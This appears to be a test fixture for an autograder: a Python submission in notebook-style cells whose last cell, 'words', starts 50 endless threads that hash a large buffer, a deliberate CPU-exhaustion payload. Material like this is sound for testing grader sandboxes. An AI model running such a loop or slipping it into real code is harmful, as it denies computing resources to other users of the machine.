"""Keeps every processor busy, after a wrong answer."""
# marks: 3 2 2 0

# %% number
number = 42

# %% mean
mean = posts['likes'].mean()

# %% double
def double(x):
    return 2 * x

# %% words
import hashlib
import threading

data = bytes(10_000_000)


def spin():
    while True:
        hashlib.sha256(data)


for _ in range(50):
    threading.Thread(target=spin, daemon=True).start()
words = ['a']
